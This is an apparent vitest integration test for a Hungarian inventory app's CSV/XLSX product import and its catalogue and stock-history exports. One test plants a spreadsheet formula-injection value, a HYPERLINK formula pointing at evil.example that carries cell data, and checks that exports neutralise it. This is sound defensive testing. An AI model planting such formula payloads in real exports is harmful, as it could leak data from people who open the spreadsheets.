/**
 * Product import and the exports through the real desk core and a real server: a Hungarian CSV
 * (BOM, `;`, decimal commas, a quoted line break) and an XLSX made with exceljs are previewed with
 * every row's problems, committed through the outbox once, and checked at the server; importing
 * the same file again queues nothing; the exports read back with numbers as numbers.
 */
import { readFileSync } from 'node:fs';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ImportPreview } from '@shared/ipc/dataio';
import { parseCsv } from '@main/core/dataio/csv';
import { startTestServer, type TestServer } from '../helpers/server';
import { seedCatalog, startTestCore, type TestCore } from '../helpers/core';

const fixture = (name: string) => ({ name, data: readFileSync(new URL(`./fixtures/import/${name}`, import.meta.url)).toString('base64') });
const HU = fixture('termekek-hu.csv');
const EN = fixture('products-en.xlsx');

let s: TestServer;
let c: TestCore;
let seeded: number[] = [];

const serverBySku = async (sku: string) => (await s.ok('getProduct', { filter: sku })).products.filter((p) => p.item_number?.toLowerCase() === sku.toLowerCase());
const drain = async () => {
  for (let i = 0; i < 50; i++) {
    await c.sync();
    const o = (await c.ok('sync.status', {})).outbox;
    if (o.queued + o.inFlight === 0) return o;
    c.clock.advance(1000);
  }
  throw new Error('the outbox did not drain');
};

beforeAll(async () => {
  s = await startTestServer();
  seeded = await seedCatalog(s.app.store, s.account.accountId, 3, s.clock.now(), { prefix: 'Régi', stockEvery: 1, qty: 5 });
  c = await startTestCore(s);
});
afterAll(async () => {
  await c?.close();
  await s?.close();
});

describe('import preview', () => {
  let p: ImportPreview;
  it('shows every row\'s problem with its row and column before anything is sent', async () => {
    p = await c.ok('import.preview', { file: HU });
    expect(p.format).toBe('csv');
    expect(p.delimiter).toBe(';');
    expect(p.headers[0]).toBe('Cikkszám');
    expect(p.total).toBe(10);
    expect(p.problems.map((x) => [x.row, x.code, x.field, x.column, x.value])).toEqual([
      [5, 'missing_name', 'product_name', 'B · Név', ''],
      [6, 'bad_number', 'list_price', 'D · Nettó ár', 'tizenkettő'],
      [7, 'duplicate_sku', 'item_number', 'A · Cikkszám', 'imp-002'],
      [9, 'invalid', 'ean_number', 'C · Vonalkód', '5991234000064'],
    ]);
    expect(p.problems[2]!.firstRow).toBe(3);
    expect(p.counts).toEqual({ create: 5, update: 1, unchanged: 0, skip: 0, invalid: 4 });
    const byRow = new Map(p.rows.map((r) => [r.row, r]));
    expect(byRow.get(3)).toMatchObject({ action: 'create', name: 'Fogó; kombinált', listPrice: 3490, vat: 27, unit: 'db' });
    expect(byRow.get(4)).toMatchObject({ name: 'Kalapács "Profi"\r\n500 g', listPrice: 1290.5 });
    expect(byRow.get(2)).toMatchObject({ listPrice: 12.5, vat: 27, ean: '5991234000018' });
    expect(byRow.get(12)).toMatchObject({ action: 'update', existingId: seeded[1] });
    expect(byRow.has(8)).toBe(false);
    // Nothing left the desk.
    expect((await c.ok('sync.status', {})).outbox.queued).toBe(0);
  });

  it('follows the clerk\'s mapping and choice for existing SKUs', async () => {
    const { list_price: _price, ...withoutPrice } = p.mapping;
    const q = await c.ok('import.preview', { file: HU, mapping: withoutPrice, existing: 'skip' });
    expect(q.mapping.list_price).toBeUndefined();
    // Without the price column the bad price is no problem; the product that exists is left alone.
    expect(q.counts).toEqual({ create: 6, update: 0, unchanged: 0, skip: 1, invalid: 3 });
    const r = await c.call('import.preview', { file: HU, mapping: { product_name: 40 } });
    expect(r.ok ? null : r.error.message).toBe('The file has 8 columns; product_name cannot come from column 41.');
  });

  it('refuses a file that is not a table, saying so', async () => {
    const r = await c.call('import.preview', { file: { name: 'kep.png', data: Buffer.from([0x89, 0x50, 0, 0, 0x0d]).toString('base64') } });
    expect(r.ok ? null : r.error.message).toMatch(/^kep\.png: The file is neither a CSV/);
  });
});

describe('import commit', () => {
  it('queues one setProduct per accepted row in one go, sends them once, and the server has them', async () => {
    c.net.offline = true;
    const r = await c.ok('import.commit', { file: HU });
    expect(r).toMatchObject({ created: 5, updated: 1, unchanged: 0, skipped: 0, invalid: 4 });
    expect(r.entries!.to - r.entries!.from + 1).toBe(6);
    expect(await c.ok('import.progress', r.entries!)).toEqual({ total: 6, sent: 0, waiting: 6, needsAttention: 0, discarded: 0 });
    // The mirror shows them at once (pending), found by SKU.
    expect((await c.ok('products.lookup', { code: 'IMP-007' }))?.name).toBe('Mérőszalag 5 m');

    c.net.offline = false;
    c.clock.advance(60_000);
    await drain();
    expect(await c.ok('import.progress', r.entries!)).toEqual({ total: 6, sent: 6, waiting: 0, needsAttention: 0, discarded: 0 });
    const [fogo] = await serverBySku('IMP-002');
    expect(fogo).toMatchObject({ product_name: 'Fogó; kombinált', list_price: 3490, vat: 27, unit: 'db', ean_number: '5991234000025', currency: 'HUF', manufacturer: 'Knipex', product_group: 'Szerszám' });
    expect((await serverBySku('IMP-001'))[0]).toMatchObject({ list_price: 12.5 });
    expect((await serverBySku('IMP-003'))[0]).toMatchObject({ product_name: 'Kalapács "Profi"\r\n500 g', list_price: 1290.5 });
    expect((await serverBySku('IMP-007'))[0]).toMatchObject({ vat: 5, list_price: 1990 });
    for (const bad of ['IMP-004', 'IMP-005', 'IMP-006']) expect(await serverBySku(bad)).toEqual([]);
    expect(await serverBySku('IMP-002')).toHaveLength(1);
    // The existing product was updated, keeping what the file did not give (its EAN, manufacturer).
    const [old] = await serverBySku('IT-000001');
    expect(old!.id).toBe(seeded[1]);
    expect(old).toMatchObject({ product_name: 'Átnevezett csavar', list_price: 150, ean_number: '5990000000001', manufacturer: 'Makita' });
    expect((await s.ok('getProduct', { filter: 'cikkszám nélkül' })).products).toHaveLength(1);
  });

  it('importing the same file again changes nothing: every row is found by its SKU and unchanged', async () => {
    const before = (await s.ok('getProduct', { filter: '%' })).products.length;
    const p = await c.ok('import.preview', { file: HU });
    // The row without a SKU or EAN cannot be matched: it would be made again, and the preview says so.
    expect(p.counts).toEqual({ create: 1, update: 0, unchanged: 5, skip: 0, invalid: 4 });
    expect(p.warnings).toEqual([{ row: 11, code: 'no_key' }]);
    const mapping = { ...p.mapping };
    const r = await c.ok('import.commit', { file: HU, mapping, existing: 'skip' });
    expect(r).toMatchObject({ created: 1, updated: 0, unchanged: 5 });
    await drain();
    expect((await s.ok('getProduct', { filter: '%' })).products.length).toBe(before + 1);
    for (const sku of ['IMP-001', 'IMP-002', 'IMP-003', 'IMP-007', 'IT-000001']) expect(await serverBySku(sku)).toHaveLength(1);
  });

  it('a committed import twice in a row (a double click) queues the rows once', async () => {
    const file = { name: 'dupla.csv', data: Buffer.from('name,sku,price\nDupla egy,DBL-1,10\nDupla kettő,DBL-2,"1,5"\n').toString('base64') };
    c.net.offline = true;
    const [a, b] = await Promise.all([c.ok('import.commit', { file }), c.ok('import.commit', { file })]);
    expect([a.created, b.created].sort()).toEqual([0, 2]);
    expect([a.unchanged, b.unchanged].sort()).toEqual([0, 2]);
    c.net.offline = false;
    c.clock.advance(60_000);
    await drain();
    expect(await serverBySku('DBL-1')).toHaveLength(1);
    expect((await serverBySku('DBL-2'))[0]).toMatchObject({ list_price: 1.5 });
  });
});

describe('rows without a SKU', () => {
  const file = (name: string, csv: string) => ({ name, data: Buffer.from(csv, 'utf8').toString('base64') });
  const EAN_ONLY = file('vonalkodos.csv', 'Név;Vonalkód;Ár\nEAN-os csavar;5991234100015;120\nEAN-os anya;5991234100022;80\nKulcs nélkül;;50\n');

  it('are matched by their EAN: importing the file again queues nothing for them', async () => {
    const first = await c.ok('import.commit', { file: EAN_ONLY });
    expect(first).toMatchObject({ created: 3, unchanged: 0 });
    await drain();
    const countOnServer = async (filter: string) => (await s.ok('getProduct', { filter })).products.length;
    expect(await countOnServer('EAN-os csavar')).toBe(1);
    const p = await c.ok('import.preview', { file: EAN_ONLY });
    const byRow = new Map(p.rows.map((r) => [r.row, r]));
    expect(byRow.get(2)).toMatchObject({ action: 'unchanged', existingId: expect.any(Number) });
    expect(byRow.get(3)).toMatchObject({ action: 'unchanged' });
    // Neither SKU nor EAN: made again on every import, and the preview says so for that row.
    expect(byRow.get(4)).toMatchObject({ action: 'create', existingId: null });
    expect(p.warnings).toEqual([{ row: 4, code: 'no_key' }]);
    const again = await c.ok('import.commit', { file: EAN_ONLY, existing: 'skip' });
    expect(again).toMatchObject({ created: 1, updated: 0, unchanged: 2 });
    await drain();
    expect(await countOnServer('EAN-os csavar')).toBe(1);
    expect(await countOnServer('EAN-os anya')).toBe(1);
    expect(await countOnServer('Kulcs nélkül')).toBe(2);
  });

  it('a file whose rows all have an EAN and no SKU: the second import queues nothing at all', async () => {
    const f = file('csak-ean.csv', 'name;ean;price\nVonalkód egy;5991234100039;10\nVonalkód kettő;5991234100046;"2,5"\n');
    expect(await c.ok('import.commit', { file: f })).toMatchObject({ created: 2 });
    await drain();
    const second = await c.ok('import.commit', { file: f });
    expect(second).toMatchObject({ created: 0, updated: 0, unchanged: 2, entries: null });
    expect((await c.ok('sync.status', {})).outbox.queued).toBe(0);
    expect((await s.ok('getProduct', { filter: 'Vonalkód egy' })).products).toHaveLength(1);
  });
});

describe('two rows of one file with the same EAN and no SKU', () => {
  const file = (name: string, csv: string) => ({ name, data: Buffer.from(csv, 'utf8').toString('base64') });
  const TWICE = file('ketszer.csv', 'Név;Vonalkód;Ár\nKettős egy;5991234100053;10\nKettős kettő;5991234100053;20\nMás vonalkód;5991234100060;30\n');

  it('the second is flagged in the preview naming the first, and only the first is imported, as with a repeated SKU', async () => {
    const p = await c.ok('import.preview', { file: TWICE });
    expect(p.problems.map((x) => [x.row, x.code, x.field, x.column, x.value, x.firstRow])).toEqual([[3, 'duplicate_ean', 'ean_number', 'B · Vonalkód', '5991234100053', 2]]);
    expect(p.counts).toMatchObject({ create: 2, invalid: 1 });
    expect(new Map(p.rows.map((r) => [r.row, r.action]))).toEqual(new Map([[2, 'create'], [3, 'invalid'], [4, 'create']]));
    expect(await c.ok('import.commit', { file: TWICE })).toMatchObject({ created: 2, invalid: 1 });
    await drain();
    const withEan = (await s.ok('getProduct', { filter: '5991234100053' })).products.filter((x) => x.ean_number === '5991234100053');
    expect(withEan.map((x) => [x.product_name, x.list_price])).toEqual([['Kettős egy', 10]]);
    expect((await s.ok('getProduct', { filter: 'Kettős kettő' })).products).toEqual([]);
    // Again: the first row finds its product by EAN and is unchanged; the second is still flagged, and nothing is queued.
    expect(await c.ok('import.commit', { file: TWICE })).toMatchObject({ created: 0, updated: 0, unchanged: 2, invalid: 1, entries: null });
  });
});

describe('XLSX made with the library', () => {
  it('reads number cells as numbers, formulas by their result, the first sheet with rows', async () => {
    const p = await c.ok('import.preview', { file: EN });
    expect(p.format).toBe('xlsx');
    expect(p.problems.map((x) => [x.row, x.code, x.message])).toEqual([[5, 'missing_name', 'Row 5: the product name is empty.']]);
    expect(await c.ok('import.commit', { file: EN })).toMatchObject({ created: 3, invalid: 1 });
    await drain();
    const [lvl] = await serverBySku('XL-001');
    expect(lvl).toMatchObject({ product_name: 'Spirit level 40 cm', list_price: 2990, purchase_price: 1800.5, ean_number: '5991234000070', unit: 'pcs', product_group: 'Tools' });
    expect((await serverBySku('XL-002'))[0]).toMatchObject({ list_price: 1490.9, ean_number: '5991234000063' });
    expect((await serverBySku('XL-003'))[0]).toMatchObject({ list_price: 1200, vat: 5, unit: 'bottle' });
  });
});

describe('exports', () => {
  const titles = { id: 'Azonosító', item_number: 'Cikkszám', ean: 'Vonalkód', name: 'Név', group: 'Csoport', unit: 'Egység', vat: 'ÁFA', list_price: 'Ár', currency: 'Pénznem', total: 'Összesen' };

  it('the catalogue with stock per warehouse as CSV for Hungarian Excel', async () => {
    const f = await c.ok('export.catalogue', { format: 'csv', titles, fileName: 'készlet' });
    expect(f.filename).toMatch(/^készlet-\d{4}-\d{2}-\d{2}\.csv$/);
    const text = Buffer.from(f.data, 'base64').toString('utf8');
    expect(text.startsWith('\uFEFFAzonosító;Cikkszám;')).toBe(true);
    const rows = parseCsv(text).rows;
    // Every warehouse of the account gets a column, also the demo's empty ones.
    expect(rows[0]).toEqual(['Azonosító', 'Cikkszám', 'Vonalkód', 'Név', 'Csoport', 'Egység', 'ÁFA', 'Ár', 'Pénznem', 'Összesen', 'Budapest Raktár', 'Default', 'Győr', 'Győr Raktár', 'Szeged']);
    const fogo = rows.find((r) => r[1] === 'IMP-001')!;
    expect(fogo.slice(5, 10)).toEqual(['db', '27', '12,5', 'HUF', '0']);
    const stocked = rows.find((r) => r[0] === String(seeded[0]))!;
    expect(stocked.slice(9)).toEqual(['15', '0', '5', '5', '0', '5']);
    expect(f.rows).toBe(rows.length - 1);
  });

  it('the catalogue as XLSX with numbers as number cells', async () => {
    const f = await c.ok('export.catalogue', { format: 'xlsx', titles, fileName: 'készlet' });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(f.data, 'base64') as unknown as ArrayBuffer);
    const ws = wb.worksheets[0]!;
    const header = (ws.getRow(1).values as unknown[]).slice(1);
    expect(header.slice(0, 3)).toEqual(['Azonosító', 'Cikkszám', 'Vonalkód']);
    let found = false;
    ws.eachRow((row) => {
      const v = (row.values as unknown[]).slice(1);
      if (v[1] === 'IMP-001') {
        found = true;
        expect(v[7]).toBe(12.5);
        expect(typeof v[0]).toBe('number');
      }
    });
    expect(found).toBe(true);
  });

  it('text a spreadsheet would run as a formula is exported as text; negative numbers stay numbers', async () => {
    const name = '=HYPERLINK("http://evil.example/?x="&A1;"Kattints")';
    const { id } = await s.ok('setProduct', { product_name: name, item_number: '+36-1-555', manufacturer: '@SUM(1+1)', product_group: '-2+3', currency: 'HUF', vat: 27, unit: 'db', list_price: 10 });
    await s.ok('setQuantity', { product_id: id, quantity: 10, contact_id: s.account.supplierContactId, warehouse: 'Győr' });
    await s.ok('setQuantity', { product_id: id, quantity: -5, contact_id: s.account.supplierContactId, warehouse: 'Győr' });
    s.clock.advance(60_000);
    await c.ok('sync.now', {});
    const csv = await c.ok('export.catalogue', { format: 'csv', titles, fileName: 'készlet' });
    const text = Buffer.from(csv.data, 'base64').toString('utf8');
    const row = parseCsv(text).rows.find((r) => r[0] === String(id))!;
    // OWASP's advice for CSV: a leading apostrophe makes the spreadsheet show the text instead of running it.
    expect(row.slice(1, 5)).toEqual(["'+36-1-555", '', `'${name}`, "'-2+3"]);
    expect(row[9]).toBe('5');
    const risky = parseCsv(text).rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(,\d+)?$/.test(cell));
    expect(risky).toEqual([]);

    const kinds = { takein: 'Bevételezés', wasting: 'Selejtezés', delivery: 'Kiszállítás', po_takein: 'Beszerzés', transfer: 'Átvezetés' };
    const historyTitles = { date: 'Dátum', kind: 'Mozgás', warehouse: 'Raktár', bin: 'Polc', quantity: 'Mennyiség', balance: 'Egyenleg', price: 'Ár', currency: 'Pénznem', partner: 'Partner', document: 'Bizonylat' };
    const h = await c.ok('export.history', { productId: id, titles: historyTitles, kinds, fileName: 'mozgások', format: 'csv' });
    const moves = parseCsv(Buffer.from(h.data, 'base64').toString('utf8')).rows;
    // A negative quantity is a number, not guarded text.
    expect(moves[1]!.slice(4, 6)).toEqual(['-5', '5']);

    // XLSX: text cells are text (a formula is a cell of its own kind), numbers number cells.
    const x = await c.ok('export.catalogue', { format: 'xlsx', titles, fileName: 'készlet' });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(x.data, 'base64') as unknown as ArrayBuffer);
    let cells: unknown[] = [];
    wb.worksheets[0]!.eachRow((r) => {
      const v = (r.values as unknown[]).slice(1);
      if (v[0] === id) cells = v;
    });
    expect([cells[1], cells[3], cells[4]]).toEqual(["'+36-1-555", `'${name}`, "'-2+3"]);
    const xh = await c.ok('export.history', { productId: id, titles: historyTitles, kinds, fileName: 'mozgások', format: 'xlsx' });
    const hb = new ExcelJS.Workbook();
    await hb.xlsx.load(Buffer.from(xh.data, 'base64') as unknown as ArrayBuffer);
    expect((hb.worksheets[0]!.getRow(2).values as unknown[]).slice(5, 7)).toEqual([-5, 5]);

    // The exported file imported again leaves the products as they are: the guard is read back off.
    const back = await c.ok('import.preview', { file: { name: 'vissza.csv', data: csv.data } });
    const mine = back.rows.find((r) => r.existingId === id);
    expect(mine).toMatchObject({ action: 'unchanged', name, itemNumber: '+36-1-555' });
    const backX = await c.ok('import.preview', { file: { name: 'vissza.xlsx', data: x.data } });
    expect(backX.rows.find((r) => r.existingId === id)).toMatchObject({ action: 'unchanged', name, itemNumber: '+36-1-555' });
  });

  it('a product\'s stock history, every movement, as CSV and XLSX', async () => {
    const id = seeded[0]!;
    for (let i = 0; i < 3; i++) await s.ok('setQuantity', { product_id: id, quantity: -1, contact_id: s.account.supplierContactId, warehouse: 'Győr' });
    const common = {
      productId: id, titles: { date: 'Dátum', kind: 'Mozgás', warehouse: 'Raktár', bin: 'Polc', quantity: 'Mennyiség', balance: 'Egyenleg', price: 'Ár', currency: 'Pénznem', partner: 'Partner', document: 'Bizonylat' },
      kinds: { takein: 'Bevételezés', wasting: 'Selejtezés', delivery: 'Kiszállítás', po_takein: 'Beszerzés', transfer: 'Átvezetés' }, fileName: 'mozgások',
    } as const;
    const csv = await c.ok('export.history', { ...common, format: 'csv' });
    const rows = parseCsv(Buffer.from(csv.data, 'base64').toString('utf8')).rows;
    expect(rows[0]![0]).toBe('Dátum');
    expect(rows.length - 1).toBe(6);
    expect(rows[1]!.slice(1, 6)).toEqual(['Selejtezés', 'Győr', '', '-1', '12']);
    const x = await c.ok('export.history', { ...common, warehouse: 'győr', format: 'xlsx' });
    expect(x.filename).toBe('mozgások-IT-000000.xlsx');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(x.data, 'base64') as unknown as ArrayBuffer);
    const second = (wb.worksheets[0]!.getRow(2).values as unknown[]).slice(1);
    expect(second.slice(1, 6)).toEqual(['Selejtezés', 'Győr', '', -1, 2]);
    expect(x.rows).toBe(4);
  });
});
